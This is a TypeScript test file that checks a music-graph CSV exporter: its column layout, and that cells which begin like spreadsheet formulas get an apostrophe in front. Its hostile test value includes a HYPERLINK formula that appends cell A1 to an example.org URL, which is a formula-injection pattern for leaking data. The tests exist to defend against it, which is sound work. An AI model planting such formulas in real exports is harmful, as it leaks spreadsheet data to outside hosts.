import { parse } from 'csv-parse/sync'
import { expect, test } from 'vitest'
import { exportLinksCsv, exportNodesCsv } from '../../src/export/csv.ts'
import { smallGraph } from '../support/small-graph.ts'
import { partIn, textOf } from './exported.ts'
import { hostileGraph, hostileNames } from './hostile.ts'

const rowsOf = (text: string) =>
  parse<Record<string, string>>(text, { columns: true, bom: true, record_delimiter: '\r\n' })

/** As the README says to: an apostrophe before what looks like a formula goes. */
const read = (cell: string) => cell.replace(/^'(?='*[=+\-@\t\r\n＝＋－＠])/, '')

test('nodes are a table whose columns do not depend on what is in it', async () => {
  const text = await textOf(exportNodesCsv(partIn(smallGraph)))
  expect(text).toMatch(/^\uFEFFid,kind,name,year,sortName,/)
  expect(text).toMatch(/,confidence,disputed,note\r\n/)
  const header = text.slice(0, text.indexOf('\r\n') + 2)
  expect(await textOf(exportNodesCsv(partIn({ nodes: [], links: [] })))).toBe(header)
  const rows = rowsOf(text)
  expect(rows.map(({ id, kind, name }) => [id, kind, name])).toEqual(
    smallGraph.nodes.map(({ id, kind, properties }) => [id, kind, properties.name ?? properties.title]),
  )
  const short = rows.find(({ id }) => id === 'video:wct')!
  expect(Object.fromEntries(Object.entries(short).filter(([, cell]) => cell !== ''))).toEqual({
    id: 'video:wct',
    kind: 'Video',
    name: 'We Cry Together',
    year: '2022',
    type: 'SHORT_FILM',
    released: '2022-09-01',
    releases: '[{"date":"2022-06","medium":"cinema","sources":["source:S1"]}]',
    claims: '[{"field":"released","value":"2022-09-02","sources":["source:S2"],"followed":false}]',
    confidence: 'UNKNOWN',
    disputed: 'true',
  })
  expect(rows.find(({ id }) => id === 'artist:kendrick')?.aliases).toBe('K.Dot|Oklama')
})

test('no column stands twice, tells the name again, or is the house’s own', async () => {
  for (const write of [exportNodesCsv, exportLinksCsv]) {
    const columns = (await textOf(write(partIn({ nodes: [], links: [] })))).trim().slice(1).split(',')
    expect(new Set(columns).size).toBe(columns.length)
    expect(columns).not.toContain('title')
    expect(columns).not.toContain('defaultEdition')
  }
})

test('links are a table with the names of both ends', async () => {
  const text = await textOf(exportLinksCsv(partIn(smallGraph)))
  expect(text).toMatch(/^\uFEFFkey,type,from,fromName,to,toName,/)
  const rows = rowsOf(text)
  expect(rows.map(({ key, type, from, to }) => ({ key, type, from, to }))).toEqual(
    smallGraph.links.map(({ key, type, from, to }) => ({ key, type, from, to })),
  )
  const jake = rows.find(({ from, to }) => from === 'artist:jake' && to === 'video:wct')!
  expect(Object.fromEntries(Object.entries(jake).filter(([, cell]) => cell !== ''))).toEqual({
    key: smallGraph.links.find(({ from, to }) => from === 'artist:jake' && to === 'video:wct')!.key,
    type: 'DIRECTED',
    from: 'artist:jake',
    fromName: 'Jake Schreier',
    to: 'video:wct',
    toName: 'We Cry Together',
    position: '1',
    sources: 'source:S1|source:S2',
    confidence: 'HIGH',
    disputed: 'false',
  })
})

test('whatever a name holds comes back, and no cell of text begins like a formula', async () => {
  const part = partIn(hostileGraph)
  const nodes = rowsOf(await textOf(exportNodesCsv(part)))
  const links = rowsOf(await textOf(exportLinksCsv(part)))
  const names = [...hostileNames, '-1']
  expect(nodes.map(({ name }) => read(name!))).toEqual(names)
  expect(nodes.map(({ note }) => read(note!))).toEqual([...hostileNames, ''])
  expect(links.map(({ creditedAs }) => read(creditedAs!))).toEqual(hostileNames)
  expect(links.map(({ fromName }) => read(fromName!))).toEqual(hostileNames)
  expect(links.map(({ key }) => read(key!))).toEqual(hostileGraph.links.map(({ key }) => key))
  expect(nodes.slice(0, -1).map(({ claims }) => JSON.parse(claims!)[0].value)).toEqual(hostileNames)
  const numbers = ['year', 'duration', 'position']
  for (const row of [...nodes, ...links])
    for (const [column, cell] of Object.entries(row))
      if (!numbers.includes(column)) expect(cell).not.toMatch(/^[=+\-@\t\r\n＝＋－＠]/)
})

test('what looks like a formula stands behind an apostrophe, and numbers stay numbers', async () => {
  const part = partIn(hostileGraph)
  const nodes = rowsOf(await textOf(exportNodesCsv(part)))
  const names = nodes.map(({ name }) => name)
  expect(names).toContain(`'=HYPERLINK("https://example.org?"&A1,"x")`)
  expect(names).toContain("''=1+1")
  expect(names).toContain("'93 'til Infinity")
  expect(nodes.at(-1)).toMatchObject({ name: "'-1", duration: '-1', year: '1987' })
  expect(rowsOf(await textOf(exportLinksCsv(part)))[3]?.position).toBe('-4')
})

test('a key that begins with a hyphen is defused too', async () => {
  const links = Array.from({ length: 400 }, (_, i) => ({
    type: 'PERFORMED',
    from: `artist:${i}`,
    to: 'song:1',
    properties: { role: null, instrument: null },
  }))
  const part = {
    ...partIn({ nodes: [], links: [] }),
    names: async () => new Map(),
    links: async function* () {
      yield links
    },
  }
  const keys = rowsOf(await textOf(exportLinksCsv(part))).map(({ key }) => key!)
  expect(keys.filter((key) => key.startsWith("'-")).length).toBeGreaterThan(0)
  expect(keys.filter((key) => key.startsWith('-'))).toEqual([])
  expect(new Set(keys.map((key) => read(key).length))).toEqual(new Set([20]))
})

test('an entry of a list that holds the bar is told apart from two', async () => {
  const nodes = rowsOf(await textOf(exportNodesCsv(partIn(hostileGraph))))
  const place = hostileNames.indexOf('C:\\a|b')
  expect(nodes[place]?.aliases).toBe('C:\\\\a\\|b|plain')
})
